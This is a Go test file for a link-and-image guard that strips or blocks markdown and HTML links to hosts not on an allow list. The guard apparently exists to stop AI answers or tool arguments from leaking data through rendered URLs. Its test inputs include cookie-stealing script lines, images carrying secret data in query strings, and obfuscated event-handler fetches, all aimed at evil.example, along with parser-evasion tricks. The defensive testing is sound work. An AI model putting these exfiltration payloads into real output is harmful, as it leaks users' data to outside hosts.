package guard

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

func TestLinks(t *testing.T) {
	allow := []string{"ok.example", "*.cdn.example", " Docs.Example. ", "https://bad-entry.example", "*"}
	const (
		evilHost  = "link to a host not allowed: evil.example"
		evilImage = "image from a host not allowed: evil.example"
		malformed = "link to a URL not allowed: malformed"
		relative  = "link to a URL not allowed: relative"
	)
	long := strings.Repeat("a", 3000)
	tests := []struct {
		name    string
		text    string
		want    string
		reasons []string
		blocked string // the reason, when blocked
	}{
		{name: "image carrying data in its query", text: "see ![chart](https://evil.example/p.png?d=SECRET%20DATA) now", want: "see [image removed] now", reasons: []string{evilImage}},
		{name: "allowed image", text: "![chart](https://ok.example/c.png?x=1)", want: "![chart](https://ok.example/c.png?x=1)"},
		{name: "link keeps its text", text: "[click here](https://evil.example/?q=x) please", want: "click here please", reasons: []string{evilHost}},
		{name: "allowed link", text: "[docs](https://ok.example/a_(b))", want: "[docs](https://ok.example/a_(b))"},
		{name: "allowed with normalized entry", text: "[d](https://docs.example/x)", want: "[d](https://docs.example/x)"},
		{name: "entry with a scheme allows nothing", text: "[d](https://bad-entry.example/)", want: "d", reasons: []string{"link to a host not allowed: bad-entry.example"}},
		{name: "wildcard subdomain", text: "![c](https://img.cdn.example/c.png)", want: "![c](https://img.cdn.example/c.png)"},
		{name: "wildcard is not the apex", text: "![c](https://cdn.example/c.png)", want: "[image removed]", reasons: []string{"image from a host not allowed: cdn.example"}},
		{name: "suffix is not a subdomain", text: "![c](https://evilcdn.example/c.png)", want: "[image removed]", reasons: []string{"image from a host not allowed: evilcdn.example"}},
		{name: "allowed host as a prefix", text: "![c](https://ok.example.evil.example/c.png)", want: "[image removed]", reasons: []string{"image from a host not allowed: ok.example.evil.example"}},
		{name: "data URI", text: "![x](data:image/png;base64,iVBORw0KGgo=)", want: "[image removed]", reasons: []string{"image from a URL not allowed: data"}},
		{name: "javascript", text: "[x](javascript:alert(1))", want: "x", reasons: []string{"link to a URL not allowed: javascript"}},
		{name: "mailto", text: "[mail us](mailto:a@ok.example)", want: "mail us", reasons: []string{"link to a URL not allowed: mailto"}},
		{name: "relative", text: "[a](/path?q=1)", want: "a", reasons: []string{relative}},
		{name: "protocol-relative", text: "![x](//evil.example/a.png)", want: "[image removed]", reasons: []string{"image from a URL not allowed: relative"}},
		{name: "userinfo", text: "![x](https://ok.example@evil.example/a.png)", want: "[image removed]", reasons: []string{evilImage}},
		{name: "fragment", text: "[x](https://evil.example#@ok.example)", want: "x", reasons: []string{evilHost}},
		{name: "escaped at sign", text: `[x](https://ok.example\@evil.example)`, want: "x", reasons: []string{malformed}},
		{name: "backslashes as slashes", text: `[x](https:\\evil.example)`, want: "x", reasons: []string{malformed}},
		{name: "no slashes", text: "[x](https:evil.example/a)", want: "x", reasons: []string{evilHost}},
		{name: "percent-encoded host", text: "[x](https://ok%2eexample/)", want: "x", reasons: []string{malformed}},
		{name: "entity in host", text: "[x](https://ok.example&#64;evil.example/)", want: "x", reasons: []string{malformed}},
		{name: "Unicode dot", text: "[x](https://evil。example/)", want: "x", reasons: []string{malformed}},
		{name: "port and case", text: "[x](HTTPS://OK.Example:8443/a)", want: "[x](HTTPS://OK.Example:8443/a)"},
		{name: "bad port", text: "[x](https://ok.example:evil/a)", want: "x", reasons: []string{malformed}},
		{name: "title", text: `[x](https://evil.example "title") y`, want: "x y", reasons: []string{evilHost}},
		{name: "junk after the URL", text: "[x](https://evil.example/a b c) y", want: "x y", reasons: []string{evilHost}},
		{name: "angle destination", text: "[x](<https://evil.example/a b>)", want: "x", reasons: []string{malformed}},
		{name: "space before the URL", text: "[x](\n  https://evil.example)", want: "x", reasons: []string{evilHost}},
		{name: "empty destination", text: "[x]()", want: "x", reasons: []string{relative}},
		{name: "image inside a link", text: "[![b](https://evil.example/b.png)](https://ok.example)", want: "[[image removed]](https://ok.example)", reasons: []string{evilImage}},
		{name: "link around an image", text: "[![b](https://ok.example/b.png)](https://evil.example)", want: "![b](https://ok.example/b.png)", reasons: []string{evilHost}},
		{name: "link in link text", text: "[a [b](https://evil.example) c](https://ok.example)", want: "[a b c](https://ok.example)", reasons: []string{evilHost}},
		{name: "reference definition", text: "see [docs][1]\n\n[1]: https://evil.example/?d=x\n", want: "see [docs][1]\n\n\n", reasons: []string{evilHost}},
		{name: "definition in a quote", text: "> [1]: <https://evil.example/?d=x> \"t\"", want: ">  \"t\"", reasons: []string{evilHost}},
		{name: "allowed definition", text: "[1]: https://ok.example/\n", want: "[1]: https://ok.example/\n"},
		{name: "not a definition mid-line", text: "a [1]: https://evil.example", want: "a [1]: https://evil.example"},
		{name: "reference link alone", text: "[docs][1] and [docs]", want: "[docs][1] and [docs]"},
		{name: "autolink", text: "<https://evil.example/?d=x>", want: "[link removed]", reasons: []string{evilHost}},
		{name: "allowed autolink", text: "<https://ok.example/>", want: "<https://ok.example/>"},
		{name: "email autolink", text: "<someone@evil.example>", want: "[link removed]", reasons: []string{relative}},
		{name: "raw img", text: `a <img src="https://evil.example/p.png?d=x" alt=x> b`, want: "a [image removed] b", reasons: []string{evilImage}},
		{name: "raw img upper case unquoted", text: `<IMG SRC=https://evil.example/p.png>`, want: "[image removed]", reasons: []string{evilImage}},
		{name: "raw img slash separator", text: `<img/src="https://evil.example/p.png">`, want: "[image removed]", reasons: []string{evilImage}},
		{name: "raw img allowed", text: `<img src="https://ok.example/p.png" width="20">`, want: `<img src="https://ok.example/p.png" width="20">`},
		{name: "raw img relative", text: `<img src="logo.png">`, want: `<img src="logo.png">`},
		{name: "srcset", text: `<img srcset="a.png 1x, https://evil.example/b.png 2x">`, want: "[image removed]", reasons: []string{"image from a URL not allowed: malformed"}},
		{name: "entity in attribute", text: `<img src="https&#58;//evil.example/x">`, want: "[image removed]", reasons: []string{"image from a URL not allowed: relative"}},
		{name: "raw img odd attribute first", text: `<img @x src=https://evil.example/p.png>`, want: "[image removed]", reasons: []string{evilImage}},
		{name: "raw img no space after a quote", text: `<img src="https://evil.example/p.png"alt="">`, want: "[image removed]", reasons: []string{evilImage}},
		{name: "raw img unclosed at the end", text: `a <img src=https://evil.example/p.png`, want: "a [image removed]", reasons: []string{evilImage}},
		{name: "raw img unclosed quote at the end", text: `<img alt=x src="https://evil.example/p.png`, want: "[image removed]", reasons: []string{evilImage}},
		{name: "raw img cut by a blank line", text: "<img src=https://evil.example/p.png\n\nmore", want: "[image removed]\n\nmore", reasons: []string{evilImage}},
		{name: "raw img inside a block tag", text: "<div\n<img src=https://evil.example/x.png @y>", want: "", reasons: []string{"link to a host not allowed: evil.example"}},
		{name: "raw img after junk longer than the limit", text: "<img " + strings.Repeat("x ", 1100) + "src=https://evil.example/x>", blocked: ReasonTooLong},
		{name: "raw link keeps its text", text: `<a href='https://evil.example/x'>click</a>`, want: "click</a>", reasons: []string{evilHost}},
		{name: "style url", text: `<div style="background:url(https://evil.example/x)">hi</div>`, want: "hi</div>", reasons: []string{"link to a URL not allowed: background"}},
		{name: "plain tags", text: "<b>bold</b> <br/> <p class=\"x\">", want: "<b>bold</b> <br/> <p class=\"x\">"},
		{name: "comparisons", text: "if a < b and c > d, or x<y then z", want: "if a < b and c > d, or x<y then z"},
		{name: "code", text: "for (i=0; i<n; i++) { List<String> x = a<b)", want: "for (i=0; i<n; i++) { List<String> x = a<b)"},
		{name: "unmatched brackets", text: "[a] b] [c !d ![e", want: "[a] b] [c !d ![e"},
		{name: "orphan destination", text: "a](https://evil.example/?d=x) b", want: "a] b", reasons: []string{evilHost}},
		{name: "bare URL is left alone", text: "see https://evil.example/?d=x", want: "see https://evil.example/?d=x"},
		{name: "code is text too", text: "use `![x](https://evil.example/a)`", want: "use `[image removed]`", reasons: []string{evilImage}},
		{name: "unclosed at the end is text", text: "![x](https://evil.example/?d=", want: "![x](https://evil.example/?d="},
		{name: "blank line ends a construct", text: "[a\n\nb](https://ok.example)", want: "[a\n\nb](https://ok.example)"},
		{name: "long link text", text: "[" + long + "](https://evil.example)", want: "[" + long + "]", reasons: []string{evilHost}},
		{name: "long URL", text: "![x](https://evil.example/?q=" + long + ")", blocked: ReasonTooLong},
		{name: "long autolink", text: "<https://evil.example/?q=" + long + ">", blocked: ReasonTooLong},
		{name: "image formed by removal", text: "[x]![y](https://evil.example/a)(https://evil.example/b)", blocked: ReasonFormedLink},
		{name: "link formed by removal", text: "[x]<https://evil.example/a>(https://evil.example/b)", want: "[x][link removed](https://evil.example/b)", blocked: ReasonFormedLink},
		{name: "Unicode around", text: "é ![ü](https://evil.example/ß) 日本", want: "é [image removed] 日本", reasons: []string{"image from a host not allowed: evil.example"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := New().Check(acme, tt.text, allow)
			if tt.blocked != "" {
				if !v.Blocked || !slices.Contains(v.Reasons, tt.blocked) {
					t.Fatalf("Check(%q) = %+v, want blocked for %q", tt.text, v, tt.blocked)
				}
				return
			}
			if v.Blocked || v.Text != tt.want || !slices.Equal(v.Reasons, tt.reasons) {
				t.Fatalf("Check(%q)\n = %v %q %q\nwant %q %q", tt.text, v.Blocked, v.Text, v.Reasons, tt.want, tt.reasons)
			}
		})
	}
}

// renderedCases are markdown that CommonMark renders as a link or image
// although the construct is not where a line-based reading expects it:
// reference definitions inside containers, references of every kind and
// label spelling, multi-line definitions, and constructs a code span, raw
// HTML or an invalid title turns into something else. Each must leave the
// guard with nothing that goldmark renders as a disallowed link or image;
// want is the guard's output where it is worth pinning.
var renderedCases = []struct {
	name, text, want string
}{
	{name: "definition in a list item", text: "- [r]: https://evil.example/x.png\n\n![a][r]", want: "- \n\n![a][r]"},
	{name: "definition in a star and a plus item", text: "* [r]: https://evil.example/x.png\n+ [s]: https://evil.example/y\n\n![a][r] [b][s]", want: "* \n+ \n\n![a][r] [b][s]"},
	{name: "definition in an ordered item", text: "1. [r]: https://evil.example/x.png\n\n![a][r]", want: "1. \n\n![a][r]"},
	{name: "definition in an ordered item with a paren", text: "10) [r]: https://evil.example/x.png\n\n![a][r]", want: "10) \n\n![a][r]"},
	{name: "definition in a quote in a list item", text: "- > [r]: https://evil.example/x.png\n\n![a][r]", want: "- > \n\n![a][r]"},
	{name: "definition in a list item in a quote", text: "> - [r]: https://evil.example/x.png\n\n![a][r]", want: "> - \n\n![a][r]"},
	{name: "definition in nested containers", text: "> 1. > - [r]: https://evil.example/x.png\n\n![a][r]", want: "> 1. > - \n\n![a][r]"},
	{name: "definition after a tab list marker", text: "-\t[r]: https://evil.example/x.png\n\n![a][r]", want: "-\t\n\n![a][r]"},
	{name: "definition indented three spaces", text: "   [r]: https://evil.example/x.png\n\n![a][r]", want: "   \n\n![a][r]"},
	{name: "definition in a list item's second paragraph", text: "- a\n\n  [r]: https://evil.example/x.png\n\n![a][r]", want: "- a\n\n  \n\n![a][r]"},
	{name: "collapsed reference", text: "- [r]: https://evil.example/x.png\n\n![r][]", want: "- \n\n![r][]"},
	{name: "shortcut reference", text: "- [r]: https://evil.example/x.png\n\n![r]", want: "- \n\n![r]"},
	{name: "label case and whitespace folded", text: "- [Foo  BAR]: https://evil.example/x.png\n\n![a][foo\nbar]", want: "- \n\n![a][foo\nbar]"},
	{name: "label Unicode case folded", text: "- [ẞ Ω]: https://evil.example/x.png\n\n![a][ss ω] ![b][SS Ω]", want: "- \n\n![a][ss ω] ![b][SS Ω]"},
	{name: "used before the definition", text: "![a][r]\n\n- [r]: https://evil.example/x.png", want: "![a][r]\n\n- "},
	{name: "title on the next line", text: "- [r]: https://evil.example/x.png\n  \"t\"\n\n![a][r]", want: "- \n  \"t\"\n\n![a][r]"},
	{name: "destination on the next line", text: "- [r]:\n  https://evil.example/x.png\n\n![a][r]", want: "- \n\n![a][r]"},
	{name: "label over two lines", text: "- [r\n  s]: https://evil.example/x.png\n\n![a][r s]", want: "- \n\n![a][r s]"},
	{name: "angle destination in a list item", text: "- [r]: <https://evil.example/x y.png>\n\n![a][r]", want: "- \n\n![a][r]"},
	{name: "carriage returns", text: "a\r\r[r]: https://evil.example/x.png\r\r![a][r]", want: "a\r\r\r\r![a][r]"},
	{name: "destination on a quote's next line", text: "> [r]:\n> https://evil.example/x.png\n\n![a][r]"},
	{name: "email autolink with a slash", text: "<a/b@evil.example>", want: "[link removed]"},
	{name: "tab in a raw URL", text: "<img src=\"/\t/evil.example/x\">", want: "[image removed]"},
	{name: "raw HTML closing a link's text", text: `[a <img src="x](https://ok.example)" src="https://evil.example/p.png">`, want: "[a [image removed]"},
	{name: "invalid title hides an image", text: "[x](https://ok.example junk ![i](https://evil.example/a.png))", want: "[x](https://ok.example junk [image removed])"},
	{name: "raw HTML after an invalid destination", text: "[x](https://ok.example/<img src=https://evil.example/x>)", want: "[x](https://ok.example/[image removed])"},
	{name: "code span opening in a title", text: "`[x](https://ok.example \"`![i](https://evil.example/a.png \"))\")", want: "`[x](https://ok.example \"`[image removed])\")"},
	{name: "code span opening in a destination", text: "`[x](https://ok.example/`![i](https://evil.example/a.png))", want: "`[x](https://ok.example/`[image removed])"},
	{name: "code span opening in an autolink", text: "`<https://ok.example/`[x](https://evil.example)>", want: "`<https://ok.example/`x>"},
	{name: "code span opening in a tag", text: "`<b title=\"`[x](https://evil.example)\">"},
	{name: "raw HTML in a label that is no definition", text: "a\n[<img src=https://evil.example/x>]: https://ok.example/\n", want: "a\n[[image removed]]: https://ok.example/\n"},
	{name: "style element", text: "<style>body{background:url(https://evil.example/x)}</style>", want: "body{background:url(https://evil.example/x)}</style>"},
	{name: "style element importing", text: "<STYLE type=text/css>@import '//evil.example/x.css';</STYLE>", want: "@import '//evil.example/x.css';</STYLE>"},
	{name: "script element", text: "<script>new Image().src='//evil.example/'+document.cookie</script>", want: "new Image().src='//evil.example/'+document.cookie</script>"},
	{name: "event handler", text: "<img src=x.png onerror=\"this.src=atob('Ly9ldmlsLmV4YW1wbGUveA')\">", want: "[image removed]"},
	{name: "srcdoc", text: "<iframe srcdoc=\"<script>fetch(atob('Ly9ldmlsLmV4YW1wbGU'))</script>\"></iframe>", want: "</iframe>"},
	{name: "control character in a destination", text: "[x](https://ok.example\x01@evil.example/)", want: "x"},
	{name: "DEL in a destination", text: "![x](https://ok.example\x7f@evil.example/)", want: "[image removed]"},
	{name: "DEL in a definition", text: "[r]: https://ok.example\x7f@evil.example/\n\n[x][r]", want: "\n\n[x][r]"},
	{name: "DEL in an autolink", text: "<https://evil.example/\x7fx>", want: "[link removed]"},
	{name: "'<' in an angle destination", text: "[x](<https://ok.example<@evil.example>)", want: "x"},
	{name: "tag name a browser reads on", text: "<div>\n<a!x style=\"background:url(//evil.example/x)\">", want: "<div>\n"},
	{name: "form feeds around '='", text: "<div>\n<img src\f=\fhttps://evil.example/x>", want: "<div>\n[image removed]"},
	{name: "quoted value past a blank line", text: "<div>\n<img alt=\"x\n\ny\" > [l](https://ok.example/?/src=//evil.example/x)", want: "<div>\n[image removed] [l](https://ok.example/?/src=//evil.example/x)"},
	{name: "quoted value past an HTML block's end", text: "<pre>\n<img alt='x</pre>\ny' > src=//evil.example/x", want: "<pre>\n[image removed] src=//evil.example/x"},
	{name: "quoted value past a list item's end", text: "- <div>\n  <img alt=\"x\ny\" > ```a/src=//evil.example/x\n", want: "- <div>\n  [image removed] ```a/src=//evil.example/x\n"},
	{name: "autolink that an HTML block makes a tag", text: "<div>\n<https://ok.example/?/src=//evil.example/x>", want: "<div>\n"},
	{name: "tag continued by a comment block", text: "<div>\n<img\n\n<!-- src=//evil.example/x -->", want: "<div>\n<img\n\n"},
	{name: "tag continued by an end tag block", text: "<div>\n<img\n\n</div src=//evil.example/x>", want: "<div>\n<img\n\n"},
	{name: "tag over block quote lines", text: "> <div>\n> <img\n> src=//evil.example/x>", want: "> <div>\n> [image removed]"},
	{name: "attribute over block quote lines", text: "> <div>\n> <img src\n>> =//evil.example/x>", want: "> <div>\n> [image removed]"},
	{name: "tag continued by a declaration holding '='", text: "<div>\n<img\n\n<!X=//evil.example/x>", want: "<div>\n<img\n\n"},
	{name: "raw iframe and a", text: "<iframe src=https://evil.example/></iframe><a href=\"//evil.example\">x</a>", want: "</iframe>x</a>"},
}

func TestLinksAsRendered(t *testing.T) {
	for _, tt := range renderedCases {
		t.Run(tt.name, func(t *testing.T) {
			v := New().Check(acme, tt.text, oracleAllow)
			if v.Blocked {
				return // nothing is sent
			}
			if bad := renderedLeaks(render(t, v.Text)); len(bad) > 0 {
				t.Errorf("Check(%q).Text = %q, which renders as %q reaching %q", tt.text, v.Text, render(t, v.Text), bad)
			}
			if tt.want != "" && v.Text != tt.want {
				t.Errorf("Check(%q).Text = %q, want %q", tt.text, v.Text, tt.want)
			}
		})
	}
}

// fuzzFound are inputs FuzzLinks found, fixed since.
var fuzzFound = []string{
	// A stream let "<A!" through before the "@" made an email autolink of it.
	"<A!0@00000000000000>",
	// goldmark's autolinks take DEL, which ended the guard's.
	// A tag name as a browser reads it runs on past '!': "<A!div style=…".
	// An attribute name at the very end: the page around the answer
	// continues the tag.
	"<frAme srCdoC",
	// An autolink not closed at the end is a tag with attributes too.
	"<A>\n<A:/0=//",
	// A tag a blank line left open reads "<!A0=//0" as an attribute.
	"<A>\n<A\n\n<!A0=//0",
	"   <?<A!div style=\"background:url(https://ok.example/a_(b) alt=x>[a\\]b]:\n  //evil.example/x (t)[Ω]\\`<HTTPS://evil.example>\n",
	"- > ](\nx/y junk)\n\n>[a <img alt=\"https://img.cdn.example/a.png \"```[SS]\n\n-\t[FOO\nBAR]:  //evil.example/x junk`<https://ok.example/a_(b) \"`</a>é [ ω  ]:  <https:/\x7f/ok.example/x>\r\n-\t<https://ok.example/x>&#91;日本 é <x@ok.example>`\n",
}

// TestLinksFuzzFound runs what fuzzing found through Check and through a
// stream fed a byte at a time.
func TestLinksFuzzFound(t *testing.T) {
	for _, text := range fuzzFound {
		g := New()
		want := g.Check(acme, text, oracleAllow)
		if !want.Blocked {
			if bad := renderedLeaks(render(t, want.Text)); len(bad) > 0 {
				t.Errorf("Check(%q).Text = %q, which renders reaching %q", text, want.Text, bad)
			}
		}
		var pieces []string
		for i := range len(text) {
			pieces = append(pieces, text[i:i+1])
		}
		got, v, _ := stream(g, pieces, oracleAllow)
		if v.Blocked != want.Blocked || !v.Blocked && got != want.Text {
			t.Errorf("stream of %q a byte at a time sent %v %q, Check gave %v %q", text, v.Blocked, got, want.Blocked, want.Text)
		}
	}
}

// fuzzSeeds seed FuzzLinks: the cases above and what fuzzing found.
var fuzzSeeds = func() []string {
	var s []string
	for _, tt := range renderedCases {
		s = append(s, tt.text)
	}
	return append(s, fuzzFound...)
}()

// TestLinksThroughJSONEscapes: in a JSON answer (or a JSON document inside
// a tool argument) markup written with JSON escapes is what its reader
// decodes and renders, so the link passes read through the escapes. A
// refused construct is removed from the text as sent, which stays JSON with
// the same values but for it; escapes elsewhere and allowed constructs are
// left as they were. Streamed in random pieces it gives what Check gives.
func TestLinksThroughJSONEscapes(t *testing.T) {
	allow := []string{"ok.example"}
	const evilImage = "image from a host not allowed: evil.example"
	esc := func(s string) string {
		var b strings.Builder
		for _, c := range s {
			fmt.Fprintf(&b, `\u%04X`, c)
		}
		return b.String()
	}
	tests := []struct {
		name, text, want string
		reasons          []string
	}{
		{"brackets escaped", `{"s":"` + esc("![x]") + `(https://evil.example/p.png?d=D)"}`, `{"s":"[image removed]"}`, []string{evilImage}},
		{"fully escaped", `{"s":"` + esc("![x](https://evil.example/p.png?d=D)") + `"}`, `{"s":"[image removed]"}`, []string{evilImage}},
		{"lowercase hex, paren escaped", `{"s":"a \u0021[x]\u0028https://evil.example/p.png) b"}`, `{"s":"a [image removed] b"}`, []string{evilImage}},
		{"escaped slashes", `{"s":"![x](https:\/\/evil.example\/p.png)"}`, `{"s":"[image removed]"}`, []string{evilImage}},
		{"tag with an escaped space", `{"s":"\u003Cimg\u0020src=https://evil.example/p.png\u003E"}`, `{"s":"[image removed]"}`, []string{evilImage}},
		{"definition after an escaped newline", `{"s":"see ![a][r]\n[r]: https://evil.example/p.png\nend"}`, `{"s":"see ![a][r]\n\nend"}`, []string{"link to a host not allowed: evil.example"}},
		{"allowed image kept as written", `{"s":"` + esc("![x](https://ok.example/p.png)") + `"}`, `{"s":"` + esc("![x](https://ok.example/p.png)") + `"}`, nil},
		{"other escapes kept", `{"s":"caf\u00e9 \u003C3 \"q\" \\u0021[x](https://evil.example)"}`, `{"s":"caf\u00e9 \u003C3 \"q\" \\u0021x"}`, []string{"link to a host not allowed: evil.example"}},
	}
	r := rand.New(rand.NewPCG(17, 18))
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g := New()
			v := g.Check(acme, tt.text, allow)
			if v.Blocked || v.Text != tt.want || !slices.Equal(v.Reasons, tt.reasons) {
				t.Fatalf("Check(%q)\n = %v %q %q\nwant %q %q", tt.text, v.Blocked, v.Text, v.Reasons, tt.want, tt.reasons)
			}
			if !json.Valid([]byte(v.Text)) {
				t.Fatalf("Check(%q) = %q: not JSON any more", tt.text, v.Text)
			}
			for range 20 {
				s := g.Stream(acme, allow)
				var sent strings.Builder
				for rest := tt.text; rest != ""; {
					n := min(len(rest), 1+r.IntN(8))
					out, sv := s.Write(rest[:n])
					if sv.Blocked {
						t.Fatalf("stream blocked: %q", sv.Reasons)
					}
					sent.WriteString(out)
					rest = rest[n:]
				}
				out, _ := s.Flush()
				if sent.WriteString(out); sent.String() != tt.want {
					t.Fatalf("streamed %q, want %q", sent.String(), tt.want)
				}
			}
		})
	}
}

func TestCompleteEscapes(t *testing.T) {
	tests := []struct {
		s    string
		want int
	}{
		{`abc`, 3}, {`a\`, 1}, {`a\u00`, 1}, {`a\u0021`, 7}, {`a\\`, 1}, {`a\\\u002`, 1}, {`a\n`, 3}, {`a\uzz`, 5},
	}
	for _, tt := range tests {
		if got := completeEscapes(tt.s); got != tt.want {
			t.Errorf("completeEscapes(%q) = %d, want %d", tt.s, got, tt.want)
		}
	}
}
